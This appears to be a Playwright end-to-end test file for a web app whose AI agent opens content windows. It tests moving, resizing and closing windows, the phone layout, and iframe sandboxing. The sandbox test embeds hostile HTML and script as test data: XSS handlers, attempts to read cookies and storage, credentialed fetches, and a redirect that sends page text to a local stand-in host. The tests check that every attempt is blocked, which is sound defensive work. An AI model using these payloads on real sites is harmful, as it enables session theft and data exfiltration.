import type { Page } from "playwright-core";
import { barriers, expect, literal, live, screenshots, size, test, until, type World } from "../harness";

interface Shown {
  id: string;
  title: string;
  kind?: "markdown" | "html";
  content: string;
}

/** A session whose agent has opened these windows. */
async function showing(world: World, name: string, ...windows: Shown[]): Promise<string> {
  const reply = windows.map((w) => ({
    tool: {
      name: "window",
      id: `c_${w.id}`,
      input: {
        action: "open",
        window_id: w.id,
        title: literal(w.title),
        kind: w.kind ?? "markdown",
        content: literal(w.content),
      },
    },
  }));
  await world.model.script([
    { when: { tool_result: "window" }, times: 0, reply: [{ text: "There you see it." }] },
    { when: { turn: 1 }, times: 0, reply },
  ]);
  const session = await world.session(name);
  await world.say(session, "show me");
  await world.settled(session);
  return session;
}

const sales: Shown = {
  id: "sales",
  title: "Sales by month",
  content:
    "# Sales\n\n| Month | Sold | Returned |\n|---|---:|---:|\n| January | 120 | 4 |\n| February | 98 | 7 |\n| March | 143 | 2 |\n\nMarch was the **best** month so far.",
};
const chart: Shown = {
  id: "chart",
  title: "Chart",
  kind: "html",
  content:
    "<h1>Chart</h1><svg width=300 height=120><rect x=20 y=40 width=40 height=80 fill=teal /><rect x=80 y=60 width=40 height=60 fill=teal /><rect x=140 y=20 width=40 height=100 fill=teal /></svg><p id=out>waits</p><script>document.getElementById('out').textContent = 'drawn by a script'</script>",
};

const windowOf = (page: Page, id: string) => page.locator(`[data-window=${id}]`);
const focused = (page: Page) =>
  page.evaluate(() => {
    const e = document.activeElement;
    return e === document.body || !e ? "" : (e.getAttribute("aria-label") ?? e.textContent ?? "");
  });
const spoken = (page: Page, text: string) =>
  until(`"${text}" is said`, async () => (await page.locator("[data-spoken]").textContent()) === text);

async function placeOf(page: Page, id: string) {
  return windowOf(page, id).evaluate((e) => ({
    x: parseInt(e.style.left),
    y: parseInt(e.style.top),
    w: parseInt(e.style.width),
    h: parseInt(e.style.height),
  }));
}

/** Opens the menu of the window with the focus and picks by arrow keys. */
async function pick(page: Page, item: string): Promise<void> {
  await page.keyboard.press("Enter");
  await page.getByRole("menu").waitFor();
  for (let i = 0; (await focused(page)) !== item; i++) {
    expect(i, `no item ${item}`).toBeLessThan(12);
    await page.keyboard.press("ArrowDown");
  }
  await page.keyboard.press("Enter");
}

async function tabTo(page: Page, name: string): Promise<void> {
  for (let i = 0; (await focused(page)) !== name; i++) {
    expect(i, `nothing called ${name} is reached`).toBeLessThan(150);
    await page.keyboard.press("Tab");
  }
}

test("windows are moved, resized, closed and sent to a monitor by keyboard and menu", async ({ world, visit }) => {
  const session = await showing(world, "Windows", sales, chart);
  const { page } = await visit({ path: `/s/${session}` });
  await live(page);
  await windowOf(page, "sales").getByText("best").waitFor();
  expect(await barriers(page)).toEqual([]);
  await screenshots(page, "19-windows", ["wide"]);

  // Nothing but the keyboard from here on.
  await page.keyboard.press("w");
  await until("the focus is in a window", async () => /^Menu of window/.test(await focused(page)));
  await tabTo(page, "Menu of window Sales by month");
  const before = await placeOf(page, "sales");
  await pick(page, "Move");
  await spoken(page, "Arrow keys move the window. Enter keeps it there, Escape puts it back.");
  for (const key of ["ArrowLeft", "ArrowLeft", "ArrowLeft", "ArrowDown"]) await page.keyboard.press(key);
  const moved = { ...before, x: before.x - 72, y: before.y + 24 };
  expect(await placeOf(page, "sales")).toEqual(moved);
  await page.keyboard.press("Enter");
  await spoken(page, "Kept");
  expect(await focused(page)).toBe("Menu of window Sales by month");

  await pick(page, "Resize");
  for (const key of ["ArrowRight", "ArrowDown", "ArrowDown"]) await page.keyboard.press(key);
  await spoken(page, `${before.w + 24} wide, ${before.h + 48} high`);
  await page.keyboard.press("Escape");
  expect(await placeOf(page, "sales")).toEqual(moved);
  await pick(page, "Resize");
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  const there = { ...moved, h: moved.h + 24 };
  expect(await placeOf(page, "sales")).toEqual(there);

  // Others see it there, and so does who comes back after the server died.
  const other = await visit({ path: `/s/${session}` });
  await until(
    "the other sees it there",
    async () => JSON.stringify(await placeOf(other.page, "sales")) === JSON.stringify(there),
  );
  await world.kill9();
  await world.restart();
  await page.reload();
  await live(page);
  await until("it is there again", async () => JSON.stringify(await placeOf(page, "sales")) === JSON.stringify(there));

  await page.keyboard.press("w");
  await tabTo(page, "Menu of window Sales by month");
  await pick(page, "Send to monitor 2");
  await spoken(page, "Window Sales by month is on monitor 2");
  await windowOf(page, "sales").waitFor({ state: "detached" });
  expect(await focused(page)).toBe("Menu of window Chart"); // it goes to the window that is left
  await windowOf(other.page, "sales").waitFor({ state: "detached" });
  await tabTo(page, "Monitor 2, 1 window");
  await page.keyboard.press("Enter");
  expect(await placeOf(page, "sales")).toEqual(there);
  await screenshots(page, "19-monitors", ["wide"]);
  await page.keyboard.press("w");
  await until("the focus is in it", async () => (await focused(page)) === "Menu of window Sales by month");
  await pick(page, "Put aside");
  await windowOf(page, "sales").waitFor({ state: "hidden" });
  expect(await focused(page)).not.toBe("");
  await tabTo(page, "Sales by month");
  await page.keyboard.press("Enter");
  await until("it is back", async () => (await focused(page)) === "Menu of window Sales by month");
  await pick(page, "Close window");
  await spoken(page, "Window Sales by month is closed");
  await windowOf(page, "sales").waitFor({ state: "detached" });
  expect(await focused(page)).not.toBe("");
  expect(await barriers(page)).toEqual([]);
});

test("a pointer drags and resizes, and a window stays in view", async ({ world, visit }) => {
  const session = await showing(world, "Pointer", sales, chart);
  const { page } = await visit({ path: `/s/${session}` });
  await live(page);
  const title = windowOf(page, "sales").getByRole("heading", { name: "Sales by month" });
  await title.waitFor();
  const before = await placeOf(page, "sales");
  const box = (await title.boundingBox())!;
  const drag = async (x: number, y: number, dx: number, dy: number) => {
    await page.mouse.move(x, y);
    await page.mouse.down();
    await page.mouse.move(x + dx / 2, y + dy / 2);
    await page.mouse.move(x + dx, y + dy);
    await page.mouse.up();
  };
  await drag(box.x + 2, box.y + 5, -200, 60);
  expect(await placeOf(page, "sales")).toEqual({ ...before, x: before.x - 200, y: before.y + 60 });
  const edge = (await windowOf(page, "sales").boundingBox())!;
  await drag(edge.x + 1, edge.y + 100, -50, 0);
  const there = { x: before.x - 250, y: before.y + 60, w: before.w + 50, h: before.h };
  expect(await placeOf(page, "sales")).toEqual(there);
  await page.reload();
  await live(page);
  await until("it is kept", async () => JSON.stringify(await placeOf(page, "sales")) === JSON.stringify(there));
  await page.setViewportSize({ width: 920, height: 420 });
  const desk = (await page.locator("[data-desk]").boundingBox())!;
  for (const id of ["sales", "chart"]) {
    await until("it is in view", async () => {
      const b = (await windowOf(page, id).boundingBox())!;
      return (
        b.x >= desk.x &&
        b.y >= desk.y &&
        b.x + b.width <= desk.x + desk.width + 1 &&
        b.y + b.height <= desk.y + desk.height + 1
      );
    });
  }
});

test("on a phone there is one window at a time", async ({ world, visit }) => {
  const session = await showing(world, "Phone", sales, chart);
  for (const theme of size(["dark"], ["light", "dark"])) {
    const v = await visit({
      path: `/s/${session}`,
      phone: true,
      prefs: { theme, language: theme === "dark" ? "ko" : "en" },
    });
    v.allow(/localStorage.*sandboxed/); // what sets the preferences runs in frames, too
    const { page } = v;
    await live(page);
    await page.getByRole("button", { name: theme === "dark" ? "창" : "Windows", exact: true }).click();
    await page.frameLocator("iframe").getByText("waits").waitFor();
    expect(await barriers(page)).toEqual([]);
    if (process.env.CLEW_SHOTS) await page.screenshot({ path: `e2e/shots/19-phone-page-${theme}.png` });
    await page.getByRole("button", { name: theme === "dark" ? "스크립트 실행" : "Run scripts" }).click();
    await page.frameLocator("iframe").getByText("drawn by a script").waitFor();
    await page.getByRole("combobox").selectOption("sales");
    await page.getByText("best").waitFor();
    expect(await page.locator("iframe").count()).toBe(0);
    if (process.env.CLEW_SHOTS) await page.screenshot({ path: `e2e/shots/19-phone-${theme}.png` });
    expect(await barriers(page)).toEqual([]);
  }
});

const tries = `<p id="out"></p><script>
const told = [];
const tell = (name, fn) => { try { told.push(name + ": " + fn()); } catch (e) { told.push(name + ": " + e.name); } };
tell("origin", () => self.origin);
tell("parent", () => parent.document.title);
tell("parent's name", () => parent.name = "taken");
tell("top", () => top.location.href);
tell("element", () => String(frameElement));
tell("storage", () => localStorage.length);
tell("cookie", () => document.cookie);
tell("navigation", () => { top.location.href = "/admin"; return "tried"; });
tell("opens", () => String(window.open("/admin")));
tell("beacon", () => { navigator.sendBeacon("http://HOST/beacon"); return "tried"; });
const later = (name, p) => p.then(() => name + ": came through", () => name + ": refused");
const image = (src) => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = src; });
const script = (src) => new Promise((ok, no) => { const s = document.createElement("script"); s.onload = ok; s.onerror = no; s.src = src; document.head.append(s); });
const socket = () => new Promise((ok, no) => { const s = new WebSocket("ws://" + "HOST" + "/ws/x"); s.onopen = ok; s.onerror = no; });
parent.postMessage({ html: "<script>window.__ran = 1<\\/script>", type: "clew" }, "*");
document.body.insertAdjacentHTML("beforeend", "<form id=f action='http://HOST/admin' target=_top><input name=a value=b></form>");
document.getElementById("f").submit();
Promise.all([
  later("fetch", Promise.resolve().then(() => fetch("http://HOST/api/v1/me", { credentials: "include" }))),
  later("image", image("http://HOST/icon.svg")), later("script", script("http://HOST/sw.js")), later("socket", Promise.resolve().then(socket)),
]).then((all) => document.getElementById("out").textContent = [...told, ...all, "end"].join("\\n"));
</script>`;

test("what runs in a window cannot reach the page around it", async ({ world, visit }) => {
  const host = new URL(world.url).host;
  const hostile = `<img src=x onerror="window.__ran=1">`;
  const session = await showing(
    world,
    "Hostile",
    { id: "tries", title: hostile, kind: "html", content: tries.replaceAll("HOST", host) },
    {
      id: "leaves",
      title: "Leaves",
      kind: "html",
      content: `<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/"><link rel=preconnect href="http://127.0.0.1:9"><iframe srcdoc="<p>in</p>"></iframe><p>off <a href="http://127.0.0.1:9/" onclick="top.__ran=1">there</a></p><script>location.href = "http://127.0.0.1:9/?what=" + document.body.textContent</script>`,
    },
    {
      id: "words",
      title: "Words",
      content: `${hostile}<script>window.__ran=1</script>\n\n[x](javascript:window.__ran=1)`,
    },
  );
  const v = await visit({ path: `/s/${session}` });
  const { page } = v;
  v.allow(/inline event handler|script-src-attr/); // a handler is taken out before it could run, and the browser says so
  const answered: string[] = []; // what is refused is told as a request, too
  page.on("response", (r) => r.frame() !== page.mainFrame() && answered.push(r.url()));
  await page.reload();
  await live(page);
  // By itself nothing runs and nothing leads anywhere.
  const still = page.frameLocator("[data-window=leaves] iframe");
  await still.getByText("off there").waitFor();
  expect(await still.locator("script, meta, link, iframe, [href], [onclick]").count()).toBe(0);
  await page.frameLocator("[data-window=tries] iframe").locator("#out").waitFor({ state: "attached" });
  expect(await page.frameLocator("[data-window=tries] iframe").locator("#out").textContent()).toBe("");
  expect(v.problems()).toEqual([]);
  expect(answered.filter((url) => url !== `${world.url}/frame.html`)).toEqual([]);

  // And when a person lets it run, it is alone.
  v.allow(/content policy|Content Security Policy|Content-Security-Policy|sandbox|Blocked|Unsafe attempt|frame/i); // it is told what it may not
  for (const id of ["leaves", "tries"]) {
    const bar = page.getByRole("group", { name: "Windows" });
    await bar.getByRole("button", { name: id === "tries" ? hostile : "Leaves" }).click();
    await windowOf(page, id).getByRole("button", { name: "Run scripts" }).click();
  }
  const inside = page.frameLocator("[data-window=tries] iframe");
  const told = await until("all was tried", async () => {
    const text = await inside.locator("#out").textContent();
    return text?.endsWith("end") ? text.split("\n") : undefined;
  });
  expect(told).toEqual([
    "origin: null",
    "parent: SecurityError",
    "parent's name: SecurityError",
    "top: SecurityError",
    "element: null",
    "storage: SecurityError",
    "cookie: SecurityError",
    expect.stringMatching(/^navigation: (SecurityError|tried)$/),
    "opens: null",
    "beacon: tried",
    "fetch: refused",
    "image: refused",
    "script: refused",
    "socket: refused",
    "end",
  ]);
  expect(await page.locator("[data-window=tries] iframe").getAttribute("sandbox")).toBe("allow-scripts");
  expect(new URL(page.url()).pathname).toBe(`/s/${session}`);
  expect(v.context.pages()).toHaveLength(1);
  expect(answered.filter((url) => !url.startsWith(`${world.url}/frame.html`))).toEqual([]);
  await windowOf(page, "tries").getByRole("heading", { name: hostile }).waitFor(); // its title is words
  expect(await page.evaluate(() => (window as unknown as { __ran?: number }).__ran)).toBeUndefined();
  expect(await page.locator("[data-window=words] a[href^=javascript], [data-window] [onerror]").count()).toBe(0);
});
